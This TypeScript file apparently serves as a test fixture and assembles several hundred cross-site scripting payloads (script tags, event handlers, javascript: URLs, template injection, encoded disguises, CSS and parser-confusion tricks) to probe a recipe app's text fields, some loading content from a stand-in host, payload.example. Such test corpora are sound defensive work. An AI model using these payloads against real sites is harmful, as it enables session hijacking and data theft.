// Cross-site scripting payloads for the text fields of a recipe. Each would call `hit()`, show an alert or load
// something from payload.example.

const crossed = <A, B>(first: readonly A[], second: readonly B[], toText: (a: A, b: B) => string): string[] =>
  first.flatMap((a) => second.map((b) => toText(a, b)))

const scripts = [
  '<script>hit()</script>',
  '<SCRIPT>hit()</SCRIPT>',
  '<ScRiPt >hit()</sCrIpT >',
  '<script\n>hit()</script\n>',
  '<script\t/x>hit()</script>',
  '<script/src=//payload.example/a.js></script>',
  '<script src="https://payload.example/b.js"></script>',
  '<script src=data:text/javascript,hit()></script>',
  '<script type=module>hit()</script>',
  '<script type="text/javascript">hit()</script>',
  '<script async defer>hit()</script>',
  '<script nonce="">hit()</script>',
  '<scr<script>ipt>hit()</scr</script>ipt>',
  '<<script>hit();//<</script>',
  '<script>hit()',
  '<script>hit()//',
  '<script>hit()<!--',
  '<script><!--\nhit()\n//--></script>',
  '<svg><script>hit()</script></svg>',
  '<svg><script href=data:,hit() />',
  '<svg><script>hit&lpar;&rpar;</script>',
  '<math><script>hit()</script></math>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<object data="data:text/html,<script>parent.hit()</script>"></object>',
]

const selfFiring = [
  ['img src=x', 'onerror'],
  ['img src=x:', 'onerror'],
  ['image src=x', 'onerror'],
  ['svg', 'onload'],
  ['body', 'onpageshow'],
  ['iframe src=about:blank', 'onload'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['video><source', 'onerror'],
  ['details open', 'ontoggle'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['a href=# autofocus', 'onfocusin'],
  ['div tabindex=1 autofocus', 'onfocus'],
  ['marquee', 'onstart'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onerror'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['script src=x', 'onerror'],
  ['style', 'onload'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['math tabindex=1 autofocus', 'onfocus'],
  ['p style=animation:spin', 'onanimationstart'],
  ['b', 'onpointerover'],
] as const
const quotes = ['hit()', '"hit()"', "'hit()'", '`${alert(1)}`'] as const
const handlers = crossed(selfFiring, quotes, ([tag, event], code) => `<${tag} ${event}=${code}>`)

const separators = ['/', '\t', '\n', '\f', '\r', '//', '/\u000B/', ' \u00A0 ', '"', "'"] as const
const separated = separators.map((between) => `<img${between}src=x${between}onerror=hit()>`)

const addresses = [
  'javascript:hit()',
  'JaVaScRiPt:hit()',
  ' javascript:hit()',
  'java\tscript:hit()',
  'java\nscript:hit()',
  '\u0001javascript:hit()',
  'javascript&colon;hit()',
  '&#106;avascript:hit()',
  '&#x6A&#x61vascript:hit()',
  'javascript://%0Ahit()',
  'javascript:/*--></title>*/hit()',
  'vbscript:hit()',
  'data:text/html,<script>hit()</script>',
  'data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=hit()>',
] as const
const places = [
  (url: string) => `<a href="${url}">Recipe</a>`,
  (url: string) => `<iframe src="${url}"></iframe>`,
  (url: string) => `<form action="${url}"><button>Go</button></form>`,
  (url: string) => `<embed src="${url}">`,
] as const
const addressed = crossed(places, addresses, (place, url) => place(url))
const placed = [
  '<button formaction=javascript:hit()>Go</button>',
  '<object data=javascript:hit()></object>',
  '<base href=javascript:hit()//>',
  '<base href=//payload.example/>',
  '<svg><a xlink:href=javascript:hit()><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=hit()>#x"/></svg>',
  '<math href=javascript:hit()>x</math>',
  '<meta http-equiv=refresh content="0;url=javascript:hit()">',
  '<meta http-equiv=refresh content="0;url=//payload.example">',
  '<map><area href=javascript:hit()></map>',
  '<video poster=//payload.example/p.png></video>',
  '<img src=//payload.example/pixel.png>',
  '<img srcset="//payload.example/pixel.png 2x">',
  '<link rel=prefetch href=//payload.example>',
  '<link rel=import href=//payload.example>',
  '<a ping=//payload.example href=#>x</a>',
]

const endings = [
  '"',
  "'",
  '`',
  '-->',
  ']]>',
  '*/',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '</noscript>',
  '</template>',
  '</select>',
  '</option>',
  '</iframe>',
  '</xmp>',
  '</svg>',
  '</h1>',
] as const
const followers = ['<script>hit()</script>', '<svg onload=hit()>'] as const
const broken = crossed(endings, followers, (ending, follower) => `${ending}>${follower}`)

const attributes = [
  '" onmouseover=hit() x="',
  "' onmouseover=hit() x='",
  '" autofocus onfocus=hit() x="',
  "' autofocus onfocus=hit() x='",
  '" style="animation:spin" onanimationstart="hit()',
  '` onerror=hit() x=`',
  'x onerror=hit()',
  'x" onerror="hit()',
  '#" onclick="hit()',
  '" srcdoc="<script>parent.hit()</script>',
  '" formaction="javascript:hit()',
  '"/><img src=x onerror=hit()>',
]

const dataBlocks = [
  '</script><script>hit()</script>',
  '</SCRIPT ><script>hit()</script>',
  '</script\t><svg onload=hit()>',
  '<!--<script>',
  '<!--<script></script><script>hit()</script>',
  '"}</script><script>hit()</script>{"',
  '"},"x":{"@type":"Recipe","name":"',
  '\\u003c/script\\u003e\\u003cscript\\u003ehit()',
  '\\"};hit();//',
  '\u2028hit()//',
  '\u2029hit()//',
  '<\\/script><script>hit()<\\/script>',
]

const templates = [
  "{{constructor.constructor('hit()')()}}",
  "{{$on.constructor('hit()')()}}",
  "{{[].pop.constructor('hit()')()}}",
  '{{hit()}}',
  '${hit()}',
  '`${hit()}`',
  '#{hit()}',
  '<%= hit() %>',
  '<% hit() %>',
  '<?php hit() ?>',
  '[[${hit()}]]',
  '{% hit() %}',
  '@{hit()}',
  '<div ng-app ng-csp>{{hit()}}</div>',
  '<div v-html="hit()">x</div>',
  '<div x-data x-init="hit()">x</div>',
  '<div @click="hit()">x</div>',
  '{"__html":"<img src=x onerror=hit()>"}',
  '{"dangerouslySetInnerHTML":{"__html":"<svg onload=hit()>"}}',
]

const code = [
  "';hit();//",
  '";hit();//',
  "\\';hit();//",
  '\\";hit();//',
  "'-hit()-'",
  '"-hit()-"',
  "'+hit()+'",
  '*/hit()/*',
  '\nhit()\n',
  ');hit();(',
  '};hit();{',
  "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+hit()//'>",
]

const disguises = [
  '＜script＞hit()＜/script＞',
  '‹img src=x onerror=hit()›',
  '<ſcript>hit()</ſcript>',
  '<ımg src=x onerror=hit()>',
  '<scr\u200Bipt>hit()</scr\u200Bipt>',
  '<\u200Dscript>hit()</script>',
  '\u202E>tpircs/<()tih>tpircs<',
  '\uFEFF<script>hit()</script>',
  '<img src=x onerror=\\u0068it()>',
  '<img src=x onerror="\u{E0068}hit()">',
  '&lt;script&gt;hit()&lt;/script&gt;',
  '&amp;lt;script&amp;gt;hit()&amp;lt;/script&amp;gt;',
  '&#60;script&#62;hit()&#60;/script&#62;',
  '&#x3c;img src=x onerror=hit()&#x3e;',
  '%3Cscript%3Ehit()%3C/script%3E',
  '%253Cscript%253Ehit()%253C/script%253E',
  '\\x3cscript\\x3ehit()\\x3c/script\\x3e',
  '\\u003cimg src=x onerror=hit()\\u003e',
  '+ADw-script+AD4-hit()+ADw-/script+AD4-',
  '¼script¾hit()¼/script¾',
  'ja\u00ADvascript:hit()',
  'ｊａｖａｓｃｒｉｐｔ：hit()',
]

const styles = [
  '<style>@import"//payload.example/c.css";</style>',
  '<style>*{background:url(//payload.example/c.png)}</style>',
  '</style><style>*{display:none}</style>',
  '<p style="background:url(//payload.example/c.png)">x</p>',
  '<p style="background:url(javascript:hit())">x</p>',
  '<p style="width:expression(hit())">x</p>',
  '<p style="-moz-binding:url(//payload.example/c.xml#x)">x</p>',
  '<p style="behavior:url(//payload.example/c.htc)">x</p>',
  '<p style="position:fixed;inset:0">x</p>',
  '<link rel=stylesheet href=//payload.example/c.css>',
  '}*{background:url(//payload.example/c.png)}',
  'red;background:url(//payload.example/c.png)',
]

const confusions = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>',
  '<noscript><p title="</noscript><img src=x onerror=hit()>">',
  '<svg><style><img src=x onerror=hit()></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=hit()>">',
  '<svg><foreignObject><iframe srcdoc="&lt;svg onload=parent.hit()&gt;">',
  '<svg><set attributeName=href to=javascript:hit() /></svg>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=hit()>">',
  '<title><a title="</title><img src=x onerror=hit()>">',
  '<template shadowrootmode=open><script>hit()</script></template>',
  '<xmp><p title="</xmp><svg/onload=hit()>">',
  '<plaintext><img src=x onerror=hit()>',
]

const clobbers = [
  '<form id=location><input name=href></form>',
  '<img name=body>',
  '<a id=defaultView href=//payload.example>x</a>',
  '<iframe name=hit src=//payload.example></iframe>',
  '<div id=root>x</div>',
  '__proto__',
  'constructor.prototype.hit()',
  '[object Object]"><svg onload=hit()>',
]

/** All payloads without duplicates. */
const allPayloads: readonly string[] = [
  ...new Set([
    ...scripts,
    ...handlers,
    ...separated,
    ...addressed,
    ...addresses,
    ...placed,
    ...broken,
    ...attributes,
    ...dataBlocks,
    ...templates,
    ...code,
    ...disguises,
    ...styles,
    ...confusions,
    ...clobbers,
  ]),
]

/** Strings with control characters other than tabs and line breaks are rejected in every field. */
const isStorable = (payload: string): boolean =>
  !/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f]/.test(payload)

/** The payloads as they are stored, which is without surrounding whitespace. */
export const payloads: readonly string[] = [
  ...new Set(allPayloads.filter(isStorable).map((payload) => payload.trim())),
]
export const refusedPayloads: readonly string[] = allPayloads.filter((payload) => !isStorable(payload))
